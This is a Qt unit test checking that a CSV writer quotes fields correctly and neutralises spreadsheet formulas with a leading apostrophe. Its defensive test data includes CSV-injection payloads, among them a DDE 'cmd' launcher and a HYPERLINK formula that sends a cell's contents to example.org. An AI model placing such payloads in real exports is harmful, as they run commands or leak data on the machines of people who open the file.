// Tables that spreadsheets open: fields come back as they were, and none is computed.
#include "app/output/csv.h"

#include <QtTest/QtTest>

class CsvTest : public QObject {
    Q_OBJECT

 private slots:
    void fields_survive_quoting_data();
    void fields_survive_quoting();
    void formulas_are_guarded_data();
    void formulas_are_guarded();
};

void CsvTest::fields_survive_quoting_data() {
    QTest::addColumn<QStringList>("fields");
    QTest::addColumn<QByteArray>("line");
    QTest::addRow("plain") << QStringList{"a", "b"} << QByteArray("a,b\n");
    QTest::addRow("empty ones") << QStringList{"", "", ""} << QByteArray(",,\n");
    QTest::addRow("comma") << QStringList{"a,b", "c"} << QByteArray("\"a,b\",c\n");
    QTest::addRow("semicolon, which parts fields elsewhere") << QStringList{"a;=b", "c"} << QByteArray("\"a;=b\",c\n");
    QTest::addRow("quote") << QStringList{"say \"a\""} << QByteArray("\"say \"\"a\"\"\"\n");
    QTest::addRow("beyond ASCII") << QStringList{"Ærø", "日本"} << QByteArray("Ærø,日本\n");
    QTest::addRow("a formula") << QStringList{"=1+1"} << QByteArray("\"'=1+1\"\n");
    QTest::addRow("one that looks guarded") << QStringList{"'=1+1", "''@x"} << QByteArray("\"''=1+1\",\"'''@x\"\n");
    QTest::addRow("an apostrophe") << QStringList{"'tis", "'"} << QByteArray("'tis,'\n");
    QTest::addRow("numbers") << QStringList{"-0.25", "-3", "1e9", "-1e-9"} << QByteArray("-0.25,-3,1e9,-1e-9\n");
}

void CsvTest::fields_survive_quoting() {
    QFETCH(QStringList, fields);
    QFETCH(QByteArray, line);
    std::vector<std::string> given;
    for (const QString& field : fields) given.push_back(field.toStdString());
    const std::string written = lectern::csv_line(given);
    QCOMPARE(QByteArray::fromStdString(written), line);
    QVERIFY(lectern::csv_fields(std::string_view(written).substr(0, written.size() - 1)) == given);
}

void CsvTest::formulas_are_guarded_data() {
    QTest::addColumn<QByteArray>("field");
    for (const char* field : {"=cmd|' /C calc'!A0", "+1+cmd|x", "-1+1", "-x", "@SUM(A1)", "\t=1", "\r=1", "\n=1",
                              "＝1+1", "=HYPERLINK(\"http://example.org/?\"&A1)", "-1;2"})
        QTest::addRow("%s", QByteArray(field).toPercentEncoding().constData()) << QByteArray(field);
}

void CsvTest::formulas_are_guarded() {
    QFETCH(QByteArray, field);
    for (const std::string& written :
         {lectern::csv_line({field.toStdString()}), lectern::csv_line({"a", field.toStdString()}).substr(2),
          lectern::csv_text(field.toStdString())})
        QVERIFY2(written.starts_with("\"'"), written.c_str());
}

QTEST_GUILESS_MAIN(CsvTest)
#include "csv_test.moc"
